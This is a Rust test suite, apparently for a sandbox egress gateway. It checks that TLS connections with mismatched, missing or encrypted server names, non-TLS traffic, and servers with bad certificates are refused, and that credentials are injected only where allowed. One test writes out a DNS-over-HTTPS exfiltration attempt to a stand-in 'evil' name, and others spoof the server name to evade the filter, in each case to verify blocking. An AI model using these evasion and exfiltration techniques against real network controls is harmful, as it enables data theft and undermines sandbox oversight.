//! TLS from its first byte on.

use std::{
    io::{Read, Write},
    net::{SocketAddr, TcpStream},
    sync::Arc,
};

use hangar_network::DenialReason;
use rustls::{
    ClientConfig, ClientConnection,
    client::{EchGreaseConfig, EchMode},
    crypto::{
        aws_lc_rs,
        hpke::{Hpke, HpkePublicKey},
    },
    pki_types::ServerName,
};

use crate::{
    border::{Border, with_border},
    world::{MISNAMED, PUBLIC, UNTRUSTED},
};

async fn openssl(border: &Border, name: &str, arguments: &str) -> String {
    let at = border.look_up(name).await;
    border.shell(&format!("openssl s_client -connect {at}:443 {arguments} </dev/null")).await
}

#[test]
fn what_needs_no_credential_is_passed_through_unread() {
    with_border(&["example.org"], |border| async move {
        border.world.name("example.org", PUBLIC);
        let said = openssl(&border, "example.org", "-servername example.org").await;
        assert!(said.contains("issuer=CN = the world"), "{said}");
        border.credential("example.org", "s3cret-token-value");
        let said = openssl(&border, "example.org", "-servername example.org").await;
        assert!(said.contains("hangar, this sandbox only"), "{said}");
    });
}

#[test]
fn the_name_in_the_hello_must_be_the_one_that_was_looked_up() {
    with_border(&["example.org", "other.test"], |mut border| async move {
        border.world.name("example.org", PUBLIC);
        for (arguments, reason) in [
            ("-servername other.test", DenialReason::OtherServerName),
            ("-servername denied.test", DenialReason::OtherServerName),
            ("-noservername", DenialReason::NoServerName),
        ] {
            let said = openssl(&border, "example.org", arguments).await;
            assert!(said.contains("unrecognized name"), "{arguments}: {said}");
            let denial = border.denial().await;
            assert_eq!((denial.host.as_str(), denial.port, denial.reason), ("example.org", 443, reason));
        }
        assert!(border.world.seen.names().is_empty());
        // The same with a credential, where TLS would be ended.
        border.credential("example.org", "s3cret-token-value");
        let said = openssl(&border, "example.org", "-servername other.test").await;
        assert!(said.contains("unrecognized name"), "{said}");
    });
}

#[test]
fn a_name_over_https_goes_to_a_denied_resolver_in_vain() {
    with_border(&["example.org"], |mut border| async move {
        border.world.name("dns.google", PUBLIC);
        let said = border.curl("'https://dns.google/resolve?name=payload.evil.test'").await;
        assert!(said.ends_with("403"), "{said}");
        assert_eq!(border.denial().await.host, "dns.google");
        let said = border.curl("-k 'https://1.1.1.1/dns-query?name=payload.evil.test'").await;
        assert!(said.contains("alert access denied"), "{said}");
        assert!(border.world.seen.nothing() && border.world.seen.names().is_empty());
    });
}

/// The bytes of a client's first message.
fn hello(name: &str, encrypted: bool) -> Vec<u8> {
    let provider = Arc::new(aws_lc_rs::default_provider());
    let roots = rustls::RootCertStore::empty();
    let config = if encrypted {
        let suite: &'static dyn Hpke = aws_lc_rs::hpke::ALL_SUPPORTED_SUITES[0];
        let HpkePublicKey(key) = suite.generate_key_pair().unwrap().0;
        let grease = EchMode::Grease(EchGreaseConfig::new(suite, HpkePublicKey(key)));
        ClientConfig::builder_with_provider(provider).with_ech(grease).unwrap()
    } else {
        ClientConfig::builder_with_provider(provider).with_safe_default_protocol_versions().unwrap()
    };
    let config = config.with_root_certificates(roots).with_no_client_auth();
    let name = ServerName::try_from(name.to_owned()).unwrap();
    let mut client = ClientConnection::new(Arc::new(config), name).unwrap();
    let mut bytes = Vec::new();
    client.write_tls(&mut bytes).unwrap();
    bytes
}

#[test]
fn a_hidden_name_is_refused() {
    with_border(&["example.org"], |mut border| async move {
        border.world.name("example.org", PUBLIC);
        let at = SocketAddr::from((border.look_up("example.org").await, 443));
        assert!(border.send(at, &hello("example.org", true)).await.ends_with("\u{2}p"), "an alert");
        let denial = border.denial().await;
        assert_eq!(denial.reason, DenialReason::EncryptedHello);
        assert!(border.world.seen.names().is_empty());
    });
}

#[test]
fn what_is_not_tls_is_refused() {
    with_border(&["example.org"], |mut border| async move {
        border.world.name("example.org", PUBLIC);
        let at = SocketAddr::from((border.look_up("example.org").await, 443));
        let huge = [&[22, 3, 1, 0x40, 0, 1, 0, 0x3f, 0xfc][..], &[0; 0x3ffc]].concat();
        let not: [&[u8]; 4] =
            [b"SSH-2.0-OpenSSH_9\r\n", b"GET / HTTP/1.1\r\n\r\n", &[22, 3, 1, 0, 4, 2, 0, 0, 0], &huge];
        for bytes in not {
            assert_eq!(border.send(at, bytes).await, "");
        }
        let denial = border.denial().await;
        assert_eq!(denial.reason, DenialReason::NotTls);
        assert!(border.world.seen.names().is_empty());
    });
}

#[test]
fn a_hello_in_small_pieces_is_understood() {
    with_border(&["example.org"], |border| async move {
        border.world.name("example.org", PUBLIC);
        let at = SocketAddr::from((border.look_up("example.org").await, 443));
        let first = border.sandbox.run(move || {
            let mut stream = TcpStream::connect(at).unwrap();
            stream.set_nodelay(true).unwrap();
            // Records of few bytes each, sent byte by byte.
            let whole = hello("example.org", false);
            for fragment in whole[5..].chunks(7) {
                let length = u16::try_from(fragment.len()).unwrap().to_be_bytes();
                for byte in [&[22, 3, 1][..], &length, fragment].concat() {
                    stream.write_all(&[byte]).unwrap();
                }
            }
            let mut first = [0; 6];
            stream.read_exact(&mut first).unwrap();
            first
        });
        // A handshake record with a server's hello.
        assert!(matches!(first.await, [22, 3, 3, _, _, 2]));
    });
}

#[test]
fn a_server_without_a_good_certificate_gets_no_credential() {
    with_border(&["untrusted.test", "misnamed.test", "example.org:5432"], |border| async move {
        for name in [UNTRUSTED, MISNAMED, "example.org"] {
            border.world.name(name, PUBLIC);
            border.credential(name, "s3cret-token-value");
        }
        // The server behind this port does not speak TLS at all.
        border.change(|policy| policy.injections[2].port = 5432);
        for url in ["https://untrusted.test/", "https://misnamed.test/", "https://example.org:5432/"] {
            let said = border.curl(url).await;
            assert!(said.contains("TLS with it failed") && said.ends_with("502"), "{said}");
        }
        assert!(border.world.seen.nothing());
    });
}

#[test]
fn h2_is_spoken_where_both_sides_do() {
    with_border(&["example.org"], |border| async move {
        border.world.name("example.org", PUBLIC);
        for injected in [false, true] {
            if injected {
                border.credential("example.org", "s3cret-token-value");
            }
            let said = border.curl("--http2 https://example.org/echo").await;
            assert!(said.contains("HTTP/2.0"), "{said}");
            let said = border.curl("--http1.1 https://example.org/echo").await;
            assert!(said.contains("HTTP/1.1"), "{said}");
            let said = border.curl("--no-alpn https://example.org/echo").await;
            assert!(said.contains("HTTP/1.1"), "{said}");
        }
    });
}
